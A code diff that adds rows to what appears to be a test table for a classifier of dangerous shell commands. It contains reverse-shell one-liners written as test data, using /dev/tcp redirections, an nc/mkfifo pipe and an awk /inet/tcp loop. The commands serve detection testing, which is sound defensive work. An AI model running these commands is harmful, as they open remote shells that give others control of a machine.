@@ -168,6 +168,10 @@ const NETWORK_SHELLS: Row[] = [
   ['exec 3<>/dev/tcp/h/1; sh <&3', 'dangerous', 'N34'],
   ["exec 5</dev/tcp/h/1; bash -c 'sh <&5'", 'dangerous', 'N34'],
   ['mkfifo f; nc h 1 < f | sh > f', 'dangerous', 'D27'],
+  // tree-sitter-bash splits `<>` into an error and a `>` redirection.
+  ['sh -i <> /dev/tcp/h/1', 'dangerous', 'N34'],
+  ['zsh -i 0<>/dev/tcp/h/1 1>&0 2>&0', 'dangerous', 'N34'],
+  ['awk \'BEGIN { s = "/inet/tcp/0/h/1"; while ((s |& getline c) > 0) { while ((c |& getline) > 0) print $0 |& s; close(c) } }\' /dev/null', 'dangerous', 'N08'],
   // The connection is not the shell's input.
   ['socat - EXEC:bash', 'safe'],
   ['nc -e /bin/cat h 1', 'safe'],
